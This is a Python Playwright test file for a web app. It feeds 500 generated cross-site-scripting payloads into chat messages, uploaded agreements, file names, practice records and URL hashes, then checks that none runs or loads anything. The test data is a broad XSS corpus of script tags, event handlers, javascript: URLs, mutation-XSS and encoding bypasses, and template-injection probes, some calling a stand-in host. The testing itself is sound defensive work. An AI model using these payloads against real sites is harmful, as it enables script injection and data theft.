"""Five hundred tries to run a script through what people, papers and practices say, in a real browser: none runs.

Each is made of a context that it tries to leave and of something that would act, in many spellings. It is shown by the real
page, and has to stand there as text.
"""

import random
import re
import shutil
import unicodedata
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from html import escape
from itertools import product
from pathlib import Path
from urllib.parse import quote

import pytest
import yaml
from playwright.sync_api import (
    Browser,
    BrowserContext,
    ConsoleMessage,
    Dialog,
    FilePayload,
    Page,
    Request,
    expect,
)
from served import ROOT, Json, Server, bearer, body, keys, serving
from visitor import ask, next_turn, turns

pytest_plugins = ["web_fixtures"]
pytestmark = pytest.mark.browser

SEED = 20_261_122
TRIES = 500
FOREIGN = "foreign.invalid"  # a host that nobody has: a request to it would be seen
MARK = "it-ran"

# The grammar: a context to leave, and something that would act

ACTS = (
    "alert(1)",
    f"console.log('{MARK}')",
    "document.documentElement.dataset.ran=1",
    f"fetch('//{FOREIGN}/f')",
    "top.ran=1",
    f"location='//{FOREIGN}/l'",
)
CONTEXTS = (
    "",
    '">',
    "'>",
    "`>",
    "-->",
    "]]>",
    "*/",
    "</p></h2>",
    "</title>",
    "</textarea>",
    "</option></select>",
    "</script>",
    "</style>",
    "</template>",
    "</noscript>",
    "</svg></math>",
    "</summary></details>",
    "</blockquote></figure>",
    '" x="',
    "' x='",
    '\\">',
    "&quot;>",
)
TAGS = (
    "<script>{act}</script>",
    "<script src=//{host}/s.js></script>",
    "<script type=module>{act}</script>",
    "<img src=x onerror={act}>",
    "<img src=//{host}/i.png>",
    "<img srcset=//{host}/j.png>",
    "<svg onload={act}>",
    "<svg><script>{act}</script></svg>",
    "<svg><animate onbegin={act} attributeName=x dur=1s>",
    "<svg><set onbegin={act} attributeName=x>",
    "<svg><use href=//{host}/u.svg#a>",
    "<svg><a href=javascript:{act}><text y=20>go</text></a></svg>",
    "<svg><image href=//{host}/k.png>",
    "<svg><foreignObject><body onload={act}></foreignObject></svg>",
    "<math><a href=javascript:{act}>go</a></math>",
    "<math><mtext><script>{act}</script></mtext></math>",
    "<iframe src=javascript:{act}></iframe>",
    "<iframe srcdoc='<script>{act}</script>'></iframe>",
    "<iframe src=//{host}/p></iframe>",
    "<object data=javascript:{act}></object>",
    "<object data=//{host}/o></object>",
    "<embed src=//{host}/e>",
    "<body onpageshow={act}>",
    "<input autofocus onfocus={act}>",
    "<select autofocus onfocus={act}></select>",
    "<details open ontoggle={act}><summary>a</summary></details>",
    "<video onloadstart={act}><source src=//{host}/v></video>",
    "<audio src=//{host}/a onerror={act}>",
    "<style onload={act}>a{{}}</style>",
    "<style>@import '//{host}/c.css';</style>",
    "<link rel=stylesheet href=//{host}/d.css>",
    "<link rel=preload as=script href=//{host}/q.js>",
    "<link rel=dns-prefetch href=//{host}>",
    "<meta http-equiv=refresh content='0;url=//{host}/r'>",
    "<meta http-equiv=refresh content='0;url=javascript:{act}'>",
    "<base href=//{host}/>",
    "<form action=//{host}/g><button autofocus onfocus={act}>go</button></form>",
    "<form id=ask><input name=message></form>",
    "<button popovertarget=a>go</button><p popover id=a onbeforetoggle={act}>",
    "<p style=animation-name:a onanimationstart={act}>",
    "<p style=background:url(//{host}/b)>",
    "<a href=javascript:{act}>go</a>",
    "<a href='data:text/html,<script>{act}</script>'>go</a>",
    "<a ping=//{host}/z href=#>go</a>",
    "<dialog open onclose={act}>",
    "<marquee onstart={act}>",
    "<x contenteditable autofocus onfocus={act}>",
    "<slot onslotchange={act}>",
    "<template shadowrootmode=open><script>{act}</script></template>",
    "<object><param name=src value=//{host}/m></object>",
)
FREE = (
    "[go](javascript:{act})",
    "![a](//{host}/m.png)",
    "![a](https://{host}/m.png)",
    '![a](x" onerror="{act})',
    "[a]: javascript:{act}",
    "<javascript:{act}>",
    "<https://{host}/auto>",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](vbscript:msgbox)",
    "[a](  javascript&colon;{act})",
    "{{{{7*7}}}}",
    "{{{{constructor.constructor('{act}')()}}}}",
    "${{7*7}}",
    "#{{7*7}}",
    "<%= 7*7 %>",
    "{{% raw %}}{{{{ strings }}}}{{% endraw %}}",
    "{{practice}}",
    "{{n}}",
    "{{title}}",
    "{{0.__class__.__mro__}}",
    "%(title)s %s %d",
    "[[${{7*7}}]]",
    "javascript:{act}",
    "data:text/html,<script>{act}</script>",
    "&lt;script&gt;{act}&lt;/script&gt;",
    "&#60;img src=x onerror={act}&#62;",
    "&#x3c;svg onload={act}&#x3e;",
    "&amp;lt;img src=x onerror={act}&amp;gt;",
    "%3Cscript%3E{act}%3C/script%3E",
    "%253Cimg src=x onerror={act}%253E",
    "\\u003cimg src=x onerror={act}\\u003e",
    "\\x3cscript\\x3e{act}\\x3c/script\\x3e",
    "+ADw-script+AD4-{act}+ADw-/script+AD4-",
    "＜script＞{act}＜/script＞",
    "‹img src=x onerror={act}›",
    "<scr<script>ipt>{act}</scr</script>ipt>",
    "<<script>{act}//<</script>",
    "<img src=x onerror={act}",
    "<img src=x onerror={act} //",
    "<img/src=x/onerror={act}>",
    "<img src=x onerror\n=\n{act}>",
    "<svg/onload={act}//",
    "<IMG SRC=x oNeRrOr={act}>",
    "<ScRiPt>{act}</sCrIpT>",
    "<a href='java\tscript:{act}'>go</a>",
    "<a href='java&NewLine;script:{act}'>go</a>",
    "<a href=' &#14; javascript:{act}'>go</a>",
    "<img src=`x` onerror=`{act}`>",
    "<img src='x'onerror='{act}'>",
    "<!--><img src=x onerror={act}>-->",
    "<!--[if gte IE 4]><script>{act}</script><![endif]-->",
    "<?xml version='1.0'?><script>{act}</script>",
    "<![CDATA[><img src=x onerror={act}>]]>",
    "<svg><style><img src=x onerror={act}></style></svg>",
    '<svg></p><style><a id="</style><img src=x onerror={act}>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={act}&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={act}>",
    '<noscript><p title="</noscript><img src=x onerror={act}>">',
    '<textarea><p title="</textarea><img src=x onerror={act}>">',
    '<title><p title="</title><img src=x onerror={act}>">',
    "<select><style></select><img src=x onerror={act}></style>",
    "<xmp><p title='</xmp><img src=x onerror={act}>'>",
    "<listing>&lt;img src=x onerror={act}&gt;</listing>",
    "<table><td background=//{host}/t><img src=x onerror={act}>",
    "<p id=</p><img src=x onerror={act}>",
    "<plaintext><img src=x onerror={act}>",
    "\u202e<img src=x onerror={act}>\u202c",
    "\u2028<script>{act}</script>\u2029",
    "<\u017fcript>{act}</\u017fcript>",
    "<\u0131mg src=x onerror={act}>",
    "ʺ><img src=x onerror={act}>",
    "\U000e003cscript\U000e003e{act}",
    "<img src=x onerror=\u00a0{act}>",
    "<script\u3000>{act}</script>",
    '"-{act}-"',
    "';{act};//",
    "\\';{act};//",
    "`${{{act}}}`",
    '"}},"x":"</script><script>{act}</script>',
    "data: event: answer\n\nevent: error\ndata: <img src=x onerror={act}>",
    "__proto__",
    "constructor",
    "<input name=secret><input id=main><a id=location name=href>",
    "upload-<img src=x onerror={act}>",
    "tel:<img src=x onerror={act}>",
)
SPELLINGS: tuple[Callable[[str], str], ...] = (
    str,
    str,
    str,
    lambda text: text.replace("<", "<\t", 1) if text.startswith("</") else text.replace(" ", "/", 1),
    lambda text: text.replace("on", "oN").replace("script", "sCRipt"),
    lambda text: text.replace(" ", "\n", 1),
    lambda text: text.replace(">", "", 1) if text.count(">") > 1 else text,
    lambda text: f"{text}{text}",
)


def payloads() -> tuple[str, ...]:
    """Make the tries: all that need no context, and as many others at random, the same in every run."""
    chance = random.Random(SEED)
    free = [text.format(act=ACTS[place % len(ACTS)], host=FOREIGN) for place, text in enumerate(FREE)]
    made = [
        context + chance.choice(SPELLINGS)(tag.format(act=chance.choice(ACTS), host=FOREIGN))
        for context, tag in product(CONTEXTS, TAGS)
    ]
    chance.shuffle(made)
    every = [tag.format(act=ACTS[0], host=FOREIGN) for tag in TAGS]
    return tuple(dict.fromkeys((*free, *every, *made)))[:TRIES]


PAYLOADS = payloads()


def test_there_are_as_many_tries_as_are_meant() -> None:
    """All different, from every context and with every tag."""
    assert TRIES == len(set(PAYLOADS))
    assert [] == [context for context in CONTEXTS if not any(one.startswith(context) for one in PAYLOADS)]


# What would show that one ran

WATCH = """
addEventListener("securitypolicyviolation", (event) => console.log("VIOLATION " + event.effectiveDirective + " " + event.blockedURI + " " + event.sample));
for (const name of ["alert", "confirm", "prompt", "print"]) self[name] = () => console.log("it-ran " + name);
"""
ALIEN = """() => {
    const bad = [];
    const roots = [document];
    for (const template of document.querySelectorAll("template")) roots.push(template.content);
    for (const root of roots) for (const each of root.querySelectorAll("*")) {
        for (const {name, value} of each.attributes) {
            if (name.startsWith("on") || name === "srcdoc" || name === "style" && /url/.test(value)) bad.push(each.outerHTML.slice(0, 120));
            const leads = ["href", "src", "action", "formaction", "data", "xlink:href", "ping", "srcset", "background"].includes(name);
            if (leads && (/^\\s*(javascript|data:text|vbscript)/i.test(value) || /foreign/.test(value.split(/[?#]/)[0]) && !/^mailto:/.test(value)))
                bad.push(each.outerHTML.slice(0, 120));
        }
        const drawn = ["svg", "g", "path", "rect", "line", "circle", "text", "title", "pattern", "defs"]; // what our own charts are made of
        if (each.closest("svg") && !drawn.includes(each.localName)) bad.push(each.outerHTML.slice(0, 120));
        if (["iframe", "object", "embed", "base", "math", "video", "audio", "img", "style", "marquee", "x", "slot", "frame"].includes(each.localName))
            bad.push(each.outerHTML.slice(0, 120));
    }
    if (document.documentElement.dataset.ran || self.ran) bad.push("it ran");
    return bad;
}"""


@dataclass
class Watched:
    """A window in which nothing that was sent in may run, be fetched or be opened; `url` is the server's address."""

    context: BrowserContext
    url: str
    seen: list[str] = field(default_factory=list)

    def request(self, request: Request) -> None:
        """Note a request to another host."""
        if not re.match(rf"{re.escape(self.url)}/|data:,$|blob:", request.url):
            self.seen.append(request.url)

    def dialog(self, dialog: Dialog) -> None:
        """Note a dialog."""
        self.seen.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def said(self, message: ConsoleMessage) -> None:
        """Note what only a try would say, or the policy of one."""
        if re.search(rf"VIOLATION|{MARK}|Content Security", message.text):
            self.seen.append(message.text)

    def page(self, path: str) -> Page:
        """Open a page of the server."""
        opened = self.context.new_page()
        opened.goto(self.url + path)
        return opened

    def check(self, page: Page) -> None:
        """Nothing ran, nothing was asked of others, no element was made of what was sent in."""
        assert [] == page.evaluate(ALIEN)
        assert [] == self.seen


def watched(browser: Browser, url: str) -> Iterator[Watched]:
    """Open a window that notes whatever would show that a script ran."""
    with browser.new_context() as context:
        found = Watched(context, url)
        context.add_init_script(WATCH)
        context.on("request", found.request)
        context.on("dialog", found.dialog)
        context.on("console", found.said)
        context.on("weberror", lambda error: found.seen.append(str(error.error)))
        yield found


@pytest.fixture(scope="module")
def knowledge(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Copy the knowledge, and let its practices be called by tries, pay with them, be open at them, title papers with them."""
    folder = tmp_path_factory.mktemp("hostile") / "knowledge"
    shutil.copytree(ROOT / "knowledge", folder)
    files = sorted(folder.glob("practices/*/practice.yaml"))
    for file, part in zip(files, shares(PAYLOADS, len(files)), strict=True):
        told = yaml.safe_load(file.read_text("utf-8"))
        one, two, three, four = shares(part, 4)
        told["name"] = f"Try {lines(one)} Clinic"
        told["paid_by"] = f"Paid by {lines(two)}."
        told["hours"] = f"Open at {lines(three)}."
        told["agreement"]["title"] = f"Terms {lines(four)}"
        told["contact"] = {"phone": f'555-0100"><img src=x onerror={ACTS[0]}>', "email": f"a@b.example?{part[0]}"}
        file.write_text(yaml.safe_dump(told, allow_unicode=True), "utf-8")
    return folder


@pytest.fixture(scope="module")
def hostile(knowledge: Path) -> Iterator[Server]:
    """Serve it, with search by words alone."""
    with serving(knowledge.parent, KNOWLEDGE=str(knowledge), EMBEDDINGS="none") as server:
        server.await_answer("/readyz")
        yield server


@pytest.fixture(scope="module")
def watch(chromium: Browser, hostile: Server) -> Iterator[Watched]:
    """Watch one window for all tests."""
    yield from watched(chromium, hostile.url)


@pytest.fixture(autouse=True)
def _closed(request: pytest.FixtureRequest) -> Iterator[None]:
    """Close the pages of each test, and let the next begin with nothing seen."""
    yield
    if "watch" in request.fixturenames:
        watch: Watched = request.getfixturevalue("watch")
        for each in watch.context.pages:
            each.close()
        watch.seen.clear()


def shares(whole: Sequence[str], count: int) -> list[list[str]]:
    """Deal out tries in turn."""
    return [list(whole[start::count]) for start in range(count)]


def lines(some: Sequence[str]) -> str:
    """Write tries one behind the other, with a word between them."""
    return " and ".join(some)


def batches(some: Sequence[str], longest: int, gap: int = 1) -> list[list[str]]:
    """Divide tries into as few parts as keep below a length."""
    found: list[list[str]] = [[]]
    for one in some:
        if sum(len(each) + gap for each in found[-1]) + len(one) > longest:
            found.append([])
        found[-1].append(one)
    return found


def flat(text: str) -> str:
    """Return a text without white space and signs that cannot be seen, which readers of papers leave out."""
    return "".join(one for one in text if not one.isspace() and unicodedata.category(one) != "Cf")


def file_of(name: str, data: bytes) -> FilePayload:
    """Return a file to be chosen on the page."""
    return FilePayload(name=name, mimeType="text/plain", buffer=data)


def missing(page: Page, some: Sequence[str], where: str = "body") -> list[str]:
    """Return the tries that do not stand in a page as text: in what it says, its values and its attributes in words."""
    said = page.evaluate(
        """(where) => {
            const root = document.querySelector(where);
            const values = [...root.querySelectorAll("input, textarea")].map((each) => each.value);
            const told = [...root.querySelectorAll("option")].map((each) => each.dataset.paidBy ?? "");
            return [root.textContent, document.title, ...values, ...told].join("\\n");
        }""",
        where,
    )
    text = flat(said)
    return [one for one in some if flat(one) not in text]


# That the watch would see it


@pytest.mark.parametrize(
    "harm",
    [
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=alert(1)>')",
        "document.body.insertAdjacentHTML('beforeend', '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>')",
        "document.body.append(Object.assign(document.createElement('script'), {textContent: 'alert(1)'}))",
        f"document.body.append(Object.assign(document.createElement('script'), {{src: 'https://{FOREIGN}/a.js'}}))",
        f"document.body.append(Object.assign(document.createElement('img'), {{src: 'https://{FOREIGN}/a.png'}}))",
        "alert(1)",
        f"console.log('{MARK}')",
        f"void fetch('https://{FOREIGN}/f').catch(() => 0)",
    ],
)
def test_what_would_run_is_seen(watch: Watched, harm: str) -> None:
    """Done by hand in the real page, each is noticed, also where the policy stops it."""
    page = watch.page("/")
    page.evaluate(f"() => {{ {harm}; }}")
    page.wait_for_timeout(100)

    assert watch.seen != []


@pytest.mark.parametrize(
    "html", ["<a href=javascript:alert(1)>", "<p onclick=a>", "<svg><animate></svg>", "<base target=a>"]
)
def test_what_was_made_of_a_try_is_seen(watch: Watched, html: str) -> None:
    """An element that does nothing yet is found as well."""
    page = watch.page("/")
    page.evaluate("(html) => document.body.insertAdjacentHTML('beforeend', html)", html)

    assert page.evaluate(ALIEN) != []


# Through each of the ways in


def test_questions_are_text(watch: Watched) -> None:
    """Typed into the page and sent, all of them, in as few messages as take them."""
    page = watch.page("/")
    for part in batches(PAYLOADS, 3900):
        turn = ask(page, "\n".join(part))
        assert [] == missing(page, part)
        assert turn.get_attribute("data-outcome")
    watch.check(page)


def test_questions_are_text_when_the_chat_is_opened_again(watch: Watched, hostile: Server) -> None:
    """From the records, where a link to the chat leads; numbers that tell of a person are blackened there."""
    opened: Json = {}
    for part in batches(PAYLOADS, 3900):
        answer = hostile.turn("\n".join(part), **(keys(opened) if opened else {"keep": True}))
        opened = opened or body(answer)
    page = watch.page(f"/#{opened['conversation_id']}.{opened['secret']}")
    expect(turns(page)).to_have_count(len(batches(PAYLOADS, 3900)))

    assert len(missing(page, PAYLOADS)) < len(PAYLOADS) / 20
    watch.check(page)


CLAUSES = (
    "1. Fee",
    "The monthly membership fee is $73 for each adult {try_}.",
    "2. Leaving",
    "You may cancel at any time with 45 days written notice {try_}.",
    "3. Term",
    "The initial term is twelve months and renews automatically for twelve months {try_}.",
    "4. Refunds",
    "No part of the enrollment fee of $75 is refunded {try_}.",
)
ESCAPED = re.compile(r"([\\`*_{}\[\]()#+\-.!<>&|~\"'$%,/:;=?@^])")


def paper(some: Sequence[str], write: Callable[[str], str], gap: str = "\n\n") -> str:
    """Write an agreement of clauses, each with a try in it, and all tries below."""
    clauses = [clause.replace("{try_}", write(some[place])) for place, clause in enumerate(CLAUSES)]
    return gap.join((*clauses, *map(write, some)))


def marked(text: str) -> str:
    """Write a text in Markdown so that it means itself."""
    return ESCAPED.sub(r"\\\1", " ".join(text.split()))


def tagged(some: Sequence[str], write: Callable[[str], str]) -> str:
    """Write an agreement in HTML."""
    return f"<!doctype html><title>{write(some[0])}</title><p>" + paper(some, write, "</p>\n<p>") + "</p>"


PAPERS: Mapping[str, tuple[str, Callable[[Sequence[str]], str], bool]] = {
    "text": ("a.txt", lambda some: paper(some, str), True),
    "Markdown that means itself": ("a.md", lambda some: paper(some, marked), True),
    "Markdown as it comes": ("a.md", lambda some: paper(some, str), False),
    "HTML that means itself": ("a.html", lambda some: tagged(some, escape), True),
    "HTML as it comes": ("a.html", lambda some: tagged(some, str), False),
}
"""Papers with tries in them: the file's name, how it is written, and whether all tries are words of it."""


@pytest.mark.parametrize("kind", PAPERS)
def test_papers_are_text(watch: Watched, kind: str) -> None:
    """Added on the page: in the sheet, in quotes of answers, and where the source is shown beside them."""
    name, write, whole = PAPERS[kind]
    page = watch.page("/")
    text = write(PAYLOADS)
    sent = [file_of(name, text.encode())]
    sheet = next_turn(page, lambda: page.set_input_files("#file", files=sent))
    watch.check(page)
    for question in ("What is the monthly fee?", "How do I cancel?"):
        ask(page, question)
    page.locator("article.turn:last-of-type button.cite").first.click()
    expect(page.locator("#source")).to_be_visible()

    assert sheet.get_attribute("data-sheet")
    assert page.locator("#source mark").count()
    if whole:
        assert [] == missing(page, PAYLOADS, "#source")
    watch.check(page)


def test_names_of_files_are_text(watch: Watched) -> None:
    """They are shown from their last slash on, cut where they are long, and said in the refusal of what cannot be read."""
    page = watch.page("/")
    named = [one for one in PAYLOADS if not re.search(r"[/\\\n\t]", one) and len(one) < 100][:120]
    assert len(named) > 40
    for place, part in enumerate(shares(named, 10)):
        names = batches(part, 110, len(lines(["", ""])))
        files = [file_of(f"{lines(some)}.txt", b"The monthly fee is $73.") for some in names[:4]]
        before = turns(page).count()
        page.set_input_files("#file", files=files)
        expect(turns(page)).to_have_count(before + len(files))
        assert [] == missing(page, [one for some in names[:4] for one in some]), place
        if place == 3:
            break
    page.set_input_files("#file", files=[file_of(named[0] + ".pdf", b"%PDF-1.7 nothing")])
    expect(page.locator("#problem")).to_be_visible()
    watch.check(page)


def of_practices(knowledge: Path, *names: str) -> list[str]:
    """Return the tries that stand under some names of the files of practices."""
    files = sorted(knowledge.glob("practices/*/practice.yaml"))
    told = "\n".join(
        str(value) for file in files for name, value in yaml.safe_load(file.read_text("utf-8")).items() if name in names
    )
    return [one for one in PAYLOADS if one in told]


def test_names_of_practices_and_who_pays_are_text(watch: Watched, knowledge: Path) -> None:
    """In the list of the open chat, in each practice's own, and in the check of sites."""
    page = watch.page("/")
    assert [] == missing(page, of_practices(knowledge, "name", "paid_by"))
    for value in page.eval_on_selector_all("#practice option", "all => all.map((each) => each.value)"):
        page.select_option("#practice", value)
        watch.check(page)
    for file in sorted(knowledge.glob("practices/*/practice.yaml")):
        told = yaml.safe_load(file.read_text("utf-8"))
        page = watch.page(f"/embed/{told['id']}")
        assert [] == missing(page, [told["name"].replace(" (sample)", ""), told["paid_by"]])
        assert page.locator(".call a").get_attribute("href") == f"tel:{told['contact']['phone']}"
        watch.check(page)
        ask(page, "What are your opening hours, who can I call, and how do I cancel?")
        ask(
            page, "I'm 42, my silver plan is 450 a month, 6000 deductible, 9000 out-of-pocket max. Is it worth joining?"
        )
        watch.check(page)
        page.close()


def test_titles_and_hours_are_text_in_sheets_and_sources(watch: Watched, hostile: Server, knowledge: Path) -> None:
    """Each is shown where the agreement's source is, and in answers that say it."""
    for file in sorted(knowledge.glob("practices/*/practice.yaml")):
        told = yaml.safe_load(file.read_text("utf-8"))
        answer = hostile.ask("How do I cancel?", practice=told["id"])
        cited = next(one for one in answer["citations"] if one["document"].startswith(told["id"]))
        page = watch.page(f"/sources/{cited['document']}/{cited['revision']}")
        assert [] == missing(page, [told["agreement"]["title"], told["name"]])
        watch.check(page)
        sheet = hostile.client.get(f"/api/v1/practices/{told['id']}/sheet", headers={"Accept": "text/html"})
        page.evaluate("(html) => { document.body.innerHTML = html; }", sheet.text)  # as the page's script puts it in
        assert [] == missing(page, [told["agreement"]["title"]])
        watch.check(page)
        page.close()


def test_what_a_practice_answered_is_text(watch: Watched, hostile: Server) -> None:
    """Written into the sheet's own form on the page, beside the terms, and when the chat is opened again."""
    page = watch.page("/")
    sent = [file_of("a.txt", "\n\n".join(CLAUSES).encode())]
    next_turn(page, lambda: page.set_input_files("#file", files=sent))
    parts = batches(PAYLOADS, 1900)
    forms = page.locator("form[data-form=keep]")
    form = forms.first
    form.evaluate("(form) => { form.closest('details').open = true; }")
    form.locator("textarea").fill("\n".join(parts[0]))
    form.locator("button").click()
    expect(page.locator("#ask [role=status]")).not_to_be_empty()
    assert [] == missing(page, parts[0])
    watch.check(page)

    opened = hostile.add("a.txt", "\n\n".join(CLAUSES).encode())
    abouts = [one["field"] for one in opened["terms"]]
    path = f"/api/v1/conversations/{opened['conversation_id']}/replies/{opened['document']['revision']}"
    kept: list[str] = []
    for about, part in zip(abouts, parts, strict=False):
        said = {"text": "\n".join(part), "wrote": "2026-05-02"}
        assert 200 == hostile.client.put(f"{path}/{about}", json=said, headers=bearer(opened)).status_code
        kept += part
    again = watch.page(f"/#{opened['conversation_id']}.{opened['secret']}")
    expect(turns(again)).to_have_count(1)

    assert len(kept) == len(PAYLOADS)
    assert [] == missing(again, kept)
    watch.check(again)


TOLD = "I'm 42, my silver plan is 450 a month, 6000 deductible, 9000 out-of-pocket max. Is it worth joining?"


def test_what_is_set_by_hand_is_text(watch: Watched, hostile: Server) -> None:
    """Labels of settings stand as questions; values that cannot be are refused, and the page says so."""
    opened = hostile.ask(TOLD, practice="juniper-street", keep=True)
    path = f"/api/v1/conversations/{opened['conversation_id']}/comparison"
    labels = batches(PAYLOADS, 390)[:8]
    for part in labels:
        said = {"changes": {"insurance.premium": 455}, "keep": True, "label": "\n".join(part)}
        assert 200 == hostile.client.post(path, json=said, headers=bearer(opened)).status_code
    details = [
        hostile.client.post(path, json=said, headers=bearer(opened)).json()["detail"]
        for one in PAYLOADS[:20]
        for said in ({"changes": {"coverage": one}}, {"changes": {one[:190]: 1}}, {"matters": {one[:190]: 2}})
    ]
    page = watch.page(f"/#{opened['conversation_id']}.{opened['secret']}")
    expect(turns(page)).to_have_count(len(labels) + 1)

    assert len(missing(page, [one for part in labels for one in part])) < 4  # those that look like a person's numbers
    watch.check(page)
    page.route("**/api/v1/turns", lambda route: route.fulfill(status=422, json={"detail": "\n".join(details)}))
    page.fill("#message", "How do I cancel?")
    page.press("#message", "Enter")
    expect(page.locator("#problem")).to_be_visible()
    watch.check(page)


def test_names_of_plans_are_text(watch: Watched) -> None:
    """A plan that is told by a name, in words, and one whose paper is called by a try."""
    page = watch.page("/embed/juniper-street")
    for part in batches(PAYLOADS[:24], 250):
        ask(page, f"My plan is called “{lines(part)}”. It costs $450 a month, 6000 deductible, 9000 out-of-pocket max.")
    ask(page, TOLD)
    watch.check(page)


def test_a_brief_is_text(watch: Watched, hostile: Server, knowledge: Path) -> None:
    """The printed page, with the practice's name and who pays on it."""
    for file in sorted(knowledge.glob("practices/*/practice.yaml"))[:4]:
        told = yaml.safe_load(file.read_text("utf-8"))
        opened = hostile.ask(TOLD, practice=told["id"])
        page = watch.page(f"/brief#{opened['conversation_id']}.{opened['secret']}")
        expect(page.locator("article.brief")).to_be_visible()

        assert [] == missing(page, [told["paid_by"]])
        watch.check(page)


def hashes() -> list[str]:
    """Return what may stand behind the # of an address: tries as they are and in the shape of id and secret."""
    made: list[str] = []
    for part in batches(PAYLOADS, 5000):
        said = lines(part)
        made += [
            said,
            f"x.{said}",
            f"{quote(said.replace('.', ''), safe='')}.{quote(said)}",
            f"..%2F..%2F.{quote(said)}",
        ]
    return [*made, *(f"{one}.{one}" for one in random.Random(SEED).sample(PAYLOADS, 8))]


@pytest.mark.parametrize("path", ["/brief", "/"])
def test_what_stands_behind_the_hash_is_never_shown(watch: Watched, path: str) -> None:
    """It leads to our own API or to nothing, and into no page."""
    page = watch.page(path)
    before = [page.inner_text("body").count(one) for one in (MARK, FOREIGN)]  # practices are called by tries here
    for place, one in enumerate(hashes()):
        page.goto(f"{watch.url}{path}?{place}#{one}")
        if path == "/brief":
            expect(page.locator("#waiting")).to_have_text(page.get_attribute("#brief", "data-gone") or "")
        assert before == [page.inner_text("body").count(each) for each in (MARK, FOREIGN)]
        assert page.url.startswith(f"{watch.url}{path}")
    watch.check(page)
